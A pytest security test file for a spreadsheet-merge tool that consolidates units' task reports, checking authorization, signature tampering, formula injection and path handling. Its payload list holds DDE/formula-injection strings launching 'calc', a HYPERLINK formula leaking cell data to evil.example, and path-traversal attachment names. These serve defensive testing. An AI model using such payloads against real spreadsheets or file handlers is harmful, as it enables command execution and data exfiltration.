"""Authorization, proven through the real merge: a unit changes only what its signed template lets it change,
cannot pass its file off as another unit's, cannot put a formula into the master, and cannot make the tool read
a file outside the inbox. Every case runs beside the good report of kit.py, which must still apply."""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from sheetsync.core.table import locate_header
from sheetsync.excel.master import sheet_grid
from sheetsync.excel.sheet_scan import sheet_parts
from sheetsync.problems import Code
from sheetsync.schema import HISTORY, JOURNAL, SIGNATURE_SHEET, TASKS, TEMPLATE, Outcome
from tests.hostile.kit import GOOD, TODAY, merge, sha256, task_values
from tests.merge_support import eml

SOFFICE = shutil.which("soffice")


def run(kit, master, inbox):
    result = merge(master, inbox)
    files = {f.decision.file: f.decision for f in result.files}
    assert files.pop(GOOD).outcome is Outcome.ACCEPTED
    return result, files


def codes(decision, *, errors=True):
    return {(p.code, p.cell) for p in decision.problems if p.is_error is errors}


def unchanged(kit, master, *codes_):
    after = task_values(master)
    return all(after[code] == kit.reference[code] for code in codes_)


def edit_template(path: Path, change, sheet: str = TEMPLATE.name) -> Path:
    wb = openpyxl.load_workbook(path)
    change(wb[sheet])
    wb.save(path)
    return path


# --- a unit changes only its own tasks -----------------------------------------------------------


def test_a_row_added_for_a_task_the_unit_has_nothing_to_do_with_is_skipped(kit, tmp_path):
    master, inbox = kit.ward(tmp_path)
    path = kit.fill("VP", inbox / "vp.xlsx", rows={"3.1.1": {"progress": 10}})

    added = []

    def add_row(ws):  # 2.1.1 is VHXH's alone; the sheet protection is no obstacle to a determined unit
        ws.append(["2.1.1", "Chủ trì", "Siết chặt kỷ luật, kỷ cương hành chính", "Thường xuyên", "Đã hoàn thành", 100])
        added.append(ws.max_row)

    edit_template(path, add_row)
    _, files = run(kit, master, inbox)
    assert files["vp.xlsx"].outcome is Outcome.PARTIAL
    assert codes(files["vp.xlsx"]) == {(Code.not_in_signed_list, f"A{added[0]}")}
    assert unchanged(kit, master, "2.1.1") and task_values(master)["3.1.1"]["progress"] == 10


def test_a_row_relabelled_with_another_units_task_code_is_skipped(kit, tmp_path):
    master, inbox = kit.ward(tmp_path)
    path = kit.fill("VP", inbox / "vp.xlsx", rows={"1.1.1": {"status": "Đã hoàn thành", "progress": 100}})
    edit_template(path, lambda ws: setattr(ws["A15"], "value", "2.1.1"))
    _, files = run(kit, master, inbox)
    assert (Code.not_in_signed_list, "A15") in codes(files["vp.xlsx"])
    assert unchanged(kit, master, "2.1.1", "1.1.1")


def test_a_task_taken_from_the_unit_after_the_template_was_issued_is_skipped(kit, tmp_path):
    master, inbox = kit.ward(tmp_path)
    kit.fill("VP", inbox / "vp.xlsx", rows={"1.1.1": {"progress": 90}, "3.1.1": {"progress": 10}})
    wb = openpyxl.load_workbook(master)  # the office gives 1.1.1 to another unit before the merge
    ws = wb[TASKS.name]
    index, columns, _ = locate_header(sheet_grid(ws), TASKS)
    row = next(r for r in range(index + 2, ws.max_row + 1) if ws.cell(r, columns["code"]).value == "1.1.1")
    ws.cell(row, columns["lead"]).value = "VHXH"  # the coordinating units stay as they were
    wb.save(master)
    _, files = run(kit, master, inbox)
    assert codes(files["vp.xlsx"]) == {(Code.task_not_assigned, "A15")}
    assert task_values(master)["1.1.1"]["progress"] is None and task_values(master)["3.1.1"]["progress"] == 10


def test_a_coordinating_row_cannot_change_the_leads_status_columns(kit, tmp_path):
    master, inbox = kit.ward(tmp_path)
    rows = {"1.1.2": {"status": "Đã hoàn thành", "progress": 100, "result": "VP đã đôn đốc thu"}}
    kit.fill("VP", inbox / "vp.xlsx", rows=rows)
    _, files = run(kit, master, inbox)
    assert codes(files["vp.xlsx"]) == {
        (Code.coordinating_status_changed, "E18"),
        (Code.coordinating_status_changed, "F18"),
    }
    after = task_values(master)["1.1.2"]
    assert (after["status"], after["progress"]) == (kit.reference["1.1.2"]["status"], 80)  # KT's, the lead
    assert after["coord_opinions"] == kit.reference["1.1.2"]["coord_opinions"]  # the whole row was skipped


def test_a_coordinating_row_relabelled_chu_tri_gains_nothing(kit, tmp_path):
    master, inbox = kit.ward(tmp_path)
    path = kit.fill("VP", inbox / "vp.xlsx", rows={"1.1.2": {"status": "Đã hoàn thành", "difficulties": "Hết"}})
    edit_template(path, lambda ws: setattr(ws["B18"], "value", "Chủ trì"))
    _, files = run(kit, master, inbox)
    assert (Code.coordinating_status_changed, "E18") in codes(files["vp.xlsx"])
    assert (Code.locked_cell_changed, "B18") in codes(files["vp.xlsx"], errors=False)
    assert unchanged(kit, master, "1.1.2")


def test_a_coordinating_units_difficulties_go_to_its_paragraph_not_the_leads_column(kit, tmp_path):
    master, inbox = kit.ward(tmp_path)
    kit.fill("VP", inbox / "vp.xlsx", rows={"1.1.2": {"result": "Đã đôn đốc", "difficulties": "Thiếu người"}})
    _, files = run(kit, master, inbox)
    assert files["vp.xlsx"].outcome is Outcome.ACCEPTED
    after = task_values(master)["1.1.2"]
    assert after["difficulties"] == kit.reference["1.1.2"]["difficulties"]
    assert "Văn phòng HĐND và UBND (05/12/2026): Đã đôn đốc" in after["coord_opinions"]
    assert "Thiếu người" in after["coord_opinions"]


# --- a file cannot be passed off as another unit's ---------------------------------------------------


@pytest.mark.parametrize(
    "old,new",
    [
        ('"unit":"VP"', '"unit":"CAP"'),  # the unit
        ('"code":"1.1.7","fixed"', '"code":"2.1.1","fixed"'),  # the task list: take over 2.1.1
        ('"role":"coordinating"', '"role":"lead"'),  # a role
    ],
)
def test_editing_the_signed_identity_rejects_the_whole_file(kit, tmp_path, old, new):
    master, inbox = kit.ward(tmp_path)
    path = kit.fill("VP", inbox / "vp.xlsx", rows={"1.1.1": {"progress": 90}})

    def tamper(ws):
        cells = [c for (c,) in ws.iter_rows(min_row=4, max_col=1) if isinstance(c.value, str) and old in c.value]
        assert cells, old
        cells[0].value = cells[0].value.replace(old, new, 1)

    edit_template(path, tamper, SIGNATURE_SHEET)
    _, files = run(kit, master, inbox)
    assert files["vp.xlsx"].outcome is Outcome.REJECTED and codes(files["vp.xlsx"]) == {(Code.bad_signature, None)}
    assert task_values(master) == kit.reference


def test_the_visible_unit_name_is_not_what_identifies_the_file(kit, tmp_path):
    master, inbox = kit.ward(tmp_path)
    path = kit.fill("VP", inbox / "vp.xlsx", rows={"1.1.1": {"progress": 90}})
    edit_template(path, lambda ws: setattr(ws["D8"], "value", "Công an phường"))
    _, files = run(kit, master, inbox)
    assert files["vp.xlsx"].unit_code == "VP"  # from the signed seal, not the header block
    assert task_values(master)["1.1.1"]["progress"] == 90


# --- no formula reaches the master --------------------------------------------------------------------

PAYLOADS = {
    "1.1.1": {"result": "=cmd|' /C calc'!A0", "difficulties": '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'},
    "1.1.7": {"result": "@SUM(1+1)*cmd|' /C calc'!A0", "difficulties": "+1+2", "proposals": "-2+3"},
    "3.1.1": {"result": "  =1+1", "difficulties": "\t=2+2"},
}


def formulas_in(master: Path) -> dict[str, int]:
    """Count of <f> elements in the saved XML of the sheets a merge writes a unit's text into."""
    with zipfile.ZipFile(master) as archive:
        parts = sheet_parts(archive)
        xml = {name: archive.read(parts[name]) for name in (TASKS.name, HISTORY.name, JOURNAL.name) if name in parts}
    return {name: data.count(b"<f>") + data.count(b"<f ") for name, data in xml.items()}


def test_formulas_typed_or_live_in_a_report_are_stored_as_inert_text(kit, tmp_path):
    master, inbox = kit.ward(tmp_path)
    before = formulas_in(master)
    live = {"1.1.2": {"result": '=HYPERLINK("http://evil.example/","Bấm vào")'}}
    kit.fill("VP", inbox / "vp.xlsx", rows=PAYLOADS, formulas=live)
    _, files = run(kit, master, inbox)
    assert files["vp.xlsx"].outcome is Outcome.ACCEPTED
    assert formulas_in(master) == dict.fromkeys((TASKS.name, HISTORY.name, JOURNAL.name), 0)
    assert before == {TASKS.name: 0, HISTORY.name: 0, JOURNAL.name: 0}
    wb = openpyxl.load_workbook(master)
    typed = {text for row in PAYLOADS.values() for text in row.values()}
    seen = set()
    for name in (TASKS.name, HISTORY.name, JOURNAL.name):
        for row in wb[name].iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.strip() in {t.strip() for t in typed}:
                    assert cell.data_type == "s", (name, cell.coordinate, cell.value)
                    assert cell.quotePrefix or not cell.value.lstrip().startswith(("=", "+", "-", "@")), cell.value
                    seen.add(cell.value.strip())
    assert seen == {t.strip() for t in typed}


@pytest.mark.libreoffice
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_shows_the_payloads_as_text_not_results(kit, tmp_path):
    master, inbox = kit.ward(tmp_path)
    kit.fill("VP", inbox / "vp.xlsx", rows=PAYLOADS)
    run(kit, master, inbox)
    out = tmp_path / "csv"
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation=file://{tmp_path / 'lo'}", "--headless", "--norestore", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,UTF8,1,,0,false,true,false,false,false,-1", "--outdir", str(out),
         str(master)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    tasks = next(out.glob(f"*{TASKS.name}*.csv")).read_text(encoding="utf-8")
    assert "=cmd|' /C calc'!A0" in tasks and "+1+2" in tasks and "@SUM(1+1)" in tasks
    assert "Err:" not in tasks and "#NAME" not in tasks


# --- nothing outside the inbox is read -------------------------------------------------------------


def test_a_symlink_to_a_report_outside_the_inbox_is_refused_and_the_target_untouched(kit, tmp_path):
    master, inbox = kit.ward(tmp_path)
    (tmp_path / "ngoai").mkdir()
    outside = kit.fill("VP", tmp_path / "ngoai" / "vp.xlsx", rows={"1.1.1": {"progress": 90}})
    digest = sha256(outside)
    (inbox / "lien-ket.xlsx").symlink_to(outside)
    (inbox / "chuoi.xlsx").symlink_to(inbox / "lien-ket.xlsx")  # a link to a link that leaves
    (inbox / "thu-muc.xlsx").symlink_to(tmp_path / "ngoai", target_is_directory=True)
    _, files = run(kit, master, inbox)
    for name in ("lien-ket.xlsx", "chuoi.xlsx", "thu-muc.xlsx"):
        assert files[name].outcome is Outcome.REJECTED and codes(files[name]) == {(Code.unsafe_path, None)}
        moved = inbox / "loi" / TODAY / name
        assert moved.is_symlink()
    assert sha256(outside) == digest and outside.parent.is_dir()
    assert task_values(master)["1.1.1"] == kit.reference["1.1.1"]


@pytest.mark.parametrize(
    "name",
    ["../../vp.xlsx", "..\\..\\vp.xlsx", "/tmp/vp.xlsx", "C:\\Windows\\vp.xlsx", "./../vp.xlsx", "..vp.xlsx"],
)
def test_an_email_attachment_named_as_a_path_is_refused_and_written_nowhere(kit, tmp_path, name):
    master, inbox = kit.ward(tmp_path)
    evil = kit.fill("VP", tmp_path / "nhap.xlsx", rows={"1.1.1": {"progress": 90}}).read_bytes()
    good = kit.fill("CAP", tmp_path / "nhap-cap.xlsx", rows={"2.2.1": {"progress": 35}}).read_bytes()
    eml(inbox / "thu.eml", {name: evil, "cap.xlsx": good})
    before = {p for p in tmp_path.parent.rglob("vp.xlsx")}
    _, files = run(kit, master, inbox)
    refused = [d for f, d in files.items() if f != "thu.eml › cap.xlsx"]
    assert refused and all(d.outcome is Outcome.REJECTED for d in refused)
    assert all(codes(d) == {(Code.unsafe_path, None)} for d in refused)
    assert files["thu.eml › cap.xlsx"].outcome is Outcome.ACCEPTED
    assert {p for p in tmp_path.parent.rglob("vp.xlsx")} == before and not Path("/tmp/vp.xlsx").exists()
    after = task_values(master)
    assert after["1.1.1"] == kit.reference["1.1.1"] and after["2.2.1"]["progress"] == 35
